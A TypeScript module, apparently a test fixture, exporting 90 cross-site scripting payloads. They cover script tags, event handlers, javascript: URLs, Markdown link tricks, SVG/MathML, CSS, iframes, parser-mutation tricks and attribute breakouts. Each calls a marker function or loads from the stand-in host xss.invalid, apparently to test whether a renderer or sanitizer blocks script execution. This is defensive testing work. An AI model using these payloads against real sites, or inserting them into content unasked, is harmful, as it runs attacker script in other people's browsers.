import type {Payload} from '../util/carriers.js'

// Text that tries to run script or load something once a page (or a Markdown viewer) shows it. `{m}` stands for
// the payload's marker (see `../util/carriers.ts`): a word naming the payload and the carrier it was put in, which
// the reader must still see, and which a script that runs reports (`xss('{m}')`), as a request that leaves the page
// names it (`http://xss.invalid/{m}`).

/** Each character as a decimal entity padded to seven digits, without the closing `;`, which HTML lets go. */
const padded = (text: string): string =>
  [...text].map((character) => `&#${String(character.codePointAt(0)).padStart(7, '0')}`).join('')

const scriptTags: Payload[] = [
  {name: 'script element', text: "<script>xss('{m}')</script>"},
  {name: 'script from a server', text: '<SCRIPT SRC=http://xss.invalid/{m}.js></SCRIPT>'},
  {name: 'unclosed script', text: "<script>xss('{m}')</script"},
  {name: 'nested angle brackets', text: "<<script>xss('{m}');//<</script>"},
  {name: 'split script tag', text: "<scr<script>ipt>xss('{m}')</scr</script>ipt>"},
  {name: 'script with a NUL', text: "<scr\u0000ipt>xss('{m}')</scr\u0000ipt>"}
]

const eventHandlers: Payload[] = [
  {name: 'img onerror', text: '<img src=x onerror="xss(\'{m}\')">'},
  {name: 'remote img', text: '<img src="http://xss.invalid/{m}.png">'},
  {name: 'svg onload', text: "<svg onload=xss('{m}')>"},
  {name: 'body onload', text: "<body onload=xss('{m}')>"},
  {
    name: 'mouseover on a page-wide div',
    text: '<div onmouseover="xss(\'{m}\')" style="position:fixed;inset:0">{m}</div>'
  },
  {name: 'autofocus onfocus', text: "<input autofocus onfocus=xss('{m}')>"},
  {name: 'details ontoggle', text: "<details open ontoggle=xss('{m}')>{m}</details>"},
  {name: 'video source onerror', text: '<video><source onerror="xss(\'{m}\')"></video>'},
  {name: 'audio onerror', text: "<audio src=x onerror=xss('{m}')>"},
  {name: 'marquee onstart', text: "<marquee onstart=xss('{m}')>{m}</marquee>"},
  {name: 'mixed-case handler', text: "<IMG SRC=x oNeRrOr=xss('{m}')>"},
  {name: 'slashes for spaces', text: "<img/src=x/onerror=xss('{m}')>"},
  {name: 'tag never closed', text: "<img src=x onerror=xss('{m}')//"}
]

const urls: Payload[] = [
  {name: 'javascript: link', text: '<a href="javascript:xss(\'{m}\')">{m}</a>'},
  {name: 'mixed-case javascript: link', text: '<a href="JaVaScRiPt:xss(\'{m}\')">{m}</a>'},
  {name: 'entity-encoded javascript:', text: '<a href="&#106;avascript:xss(\'{m}\')">{m}</a>'},
  {name: 'tab entity inside javascript:', text: '<a href="jav&#x09;ascript:xss(\'{m}\')">{m}</a>'},
  {name: 'padded numeric entities', text: `<a href="${padded('javascript:')}xss(1)">{m}</a>`},
  {name: 'leading space before javascript:', text: '<a href=" javascript:xss(\'{m}\')">{m}</a>'},
  {name: 'data: HTML link', text: '<a href="data:text/html,<script>xss(\'{m}\')</script>">{m}</a>'},
  {name: 'vbscript: link', text: '<a href="vbscript:msgbox(\'{m}\')">{m}</a>'},
  {name: 'javascript: image', text: '<img src="javascript:xss(\'{m}\')">'},
  {name: 'data: SVG image', text: '<img src="data:image/svg+xml,<svg onload=xss(\'{m}\')>">'},
  {name: 'NUL inside javascript:', text: '<a href="java\u0000script:xss(\'{m}\')">{m}</a>'}
]

const markdown: Payload[] = [
  {name: 'Markdown javascript: link', text: "[{m}](javascript:xss('{m}'))"},
  {name: 'Markdown JAVASCRIPT: link', text: '[{m}](JAVASCRIPT:xss(1))'},
  {name: 'Markdown link, entity colon', text: '[{m}](javascript&#58;xss(1))'},
  {name: 'Markdown link in angle brackets', text: '[{m}](<javascript:xss(1)>)'},
  {name: 'Markdown data: link', text: '[{m}](data:text/html;base64,PHNjcmlwdD54c3MoMSk8L3NjcmlwdD4=)'},
  {name: 'Markdown vbscript: link', text: '[{m}](vbscript:msgbox(1))'},
  {name: 'Markdown link, encoded line feed', text: '[{m}](java%0ascript:xss(1))'},
  {name: 'Markdown javascript: image', text: '![{m}](javascript:xss(1))'},
  {name: 'Markdown remote image', text: '![{m}](http://xss.invalid/{m}.png)'},
  {name: 'autolink javascript:', text: "<javascript:xss('{m}')>"},
  {name: 'Slack-style link', text: "<javascript:xss('{m}')|{m}>"},
  {name: 'reference definition', text: '[{m}][ref]\n\n[ref]: javascript:xss(1)'},
  {name: 'shortcut reference with a title', text: '[{m}]\n\n[{m}]: javascript:xss(1) "title"'},
  {name: 'image reference', text: '![{m}][img]\n\n[img]: http://xss.invalid/{m}.png'},
  {name: 'footnote with markup', text: "[^{m}]\n\n[^{m}]: <img src=x onerror=xss('{m}')>"}
]

const svgAndMath: Payload[] = [
  {name: 'script in svg', text: "<svg><script>xss('{m}')</script></svg>"},
  {name: 'svg link', text: '<svg><a xlink:href="javascript:xss(\'{m}\')"><text x="20" y="20">{m}</text></a></svg>'},
  {name: 'svg animate onbegin', text: "<svg><animate onbegin=xss('{m}') attributeName=x dur=1s>"},
  {name: 'svg foreignObject', text: "<svg><foreignObject><img src=x onerror=xss('{m}')></foreignObject></svg>"},
  {name: 'MathML mglyph and style', text: "<math><mtext><table><mglyph><style><img src=x onerror=xss('{m}')>"},
  {name: 'MathML href', text: '<math href="javascript:xss(\'{m}\')">{m}</math>'}
]

const styles: Payload[] = [
  {name: 'stylesheet hiding the page', text: '<style>body{display:none}</style>{m}'},
  {name: 'background from a server', text: '<div style="background:url(http://xss.invalid/{m}.png)">{m}</div>'},
  {name: 'CSS expression', text: '<div style="width:expression(xss(\'{m}\'))">{m}</div>'},
  {name: 'linked stylesheet', text: '<link rel=stylesheet href=http://xss.invalid/{m}.css>'},
  {name: 'imported stylesheet', text: "<style>@import 'http://xss.invalid/{m}.css';</style>"}
]

const embedded: Payload[] = [
  {name: 'javascript: iframe', text: '<iframe src="javascript:xss(\'{m}\')"></iframe>'},
  {name: 'srcdoc iframe', text: '<iframe srcdoc="<script>parent.xss(\'{m}\')</script>"></iframe>'},
  {name: 'object', text: '<object data="javascript:xss(\'{m}\')"></object>'},
  {name: 'embed', text: '<embed src="http://xss.invalid/{m}.swf">'},
  {name: 'base', text: '<base href="http://xss.invalid/{m}/">'},
  {name: 'meta refresh', text: '<meta http-equiv="refresh" content="0;url=javascript:xss(\'{m}\')">'},
  {name: 'form action', text: '<form action="javascript:xss(\'{m}\')"><button>{m}</button></form>'},
  {name: 'button formaction', text: '<button form=x formaction="javascript:xss(\'{m}\')">{m}</button>'},
  {name: 'clobbering the page’s names', text: '<a id="xss" name="xss">{m}</a><form name="body">{m}</form>'}
]

const mutation: Payload[] = [
  {name: 'noscript title', text: '<noscript><p title="</noscript><img src=x onerror=xss(\'{m}\')>">'},
  {name: 'template', text: "<template><img src=x onerror=xss('{m}')></template>"},
  {name: 'markup in style', text: "<style><img src=x onerror=xss('{m}')></style>"},
  {name: 'markup in title', text: "<title><img src=x onerror=xss('{m}')></title>"},
  {name: 'xmp', text: "<xmp><img src=x onerror=xss('{m}')></xmp>"},
  {name: 'comment closed early', text: "<!--><img src=x onerror=xss('{m}')>-->"},
  {name: 'CDATA outside foreign content', text: "<![CDATA[><img src=x onerror=xss('{m}')>]]>"},
  {name: 'textarea escape', text: "</textarea><script>xss('{m}')</script>"}
]

const breakouts: Payload[] = [
  {name: 'attribute breakout', text: "\"><script>xss('{m}')</script>"},
  {name: 'single-quote breakout', text: "'><img src=x onerror=xss('{m}')>"},
  {name: 'title breakout', text: "</title><script>xss('{m}')</script>"},
  {name: 'code block breakout', text: "</code></pre><script>xss('{m}')</script>"},
  {name: 'fold breakout', text: "</summary></details><script>xss('{m}')</script>"},
  {name: 'stray quotes', text: '<img src="x" onerror=\'xss("{m}")\' "">'},
  {name: 'quote opened in the value', text: '<img src=x" onerror="xss(\'{m}\')">'},
  {name: 'unquoted handler after a quoted value', text: "<a href='x' onmouseover=xss('{m}') >{m}</a>"}
]

const stayText: Payload[] = [
  {name: 'script in a code span', inert: true, text: "`<script>xss('{m}')</script>`"},
  {name: 'script in a fence', inert: true, text: "```html\n<script>xss('{m}')</script>\n```"},
  {name: 'handler in a tilde fence', inert: true, text: "~~~\n<img src=x onerror=xss('{m}')>\n~~~"},
  {name: 'script in indented code', inert: true, text: "    <script>xss('{m}')</script>"},
  {name: 'entities of a script', inert: true, text: "&lt;script&gt;xss('{m}')&lt;/script&gt;"},
  {name: 'entity-encoded handler body', text: '<img src=x onerror="&#x78;ss(\'{m}\')">'},
  {name: 'escaped in JSON style', inert: true, text: "\\u003cscript\\u003exss('{m}')\\u003c/script\\u003e"},
  {name: 'percent-encoded', inert: true, text: "%3Cscript%3Exss('{m}')%3C/script%3E"},
  {name: 'fullwidth brackets', inert: true, text: "＜script＞xss('{m}')＜/script＞"}
]

/** Every payload, by kind: 90 of them. */
export const xssPayloads: readonly Payload[] = [
  ...scriptTags,
  ...eventHandlers,
  ...urls,
  ...markdown,
  ...svgAndMath,
  ...styles,
  ...embedded,
  ...mutation,
  ...breakouts,
  ...stayText
]
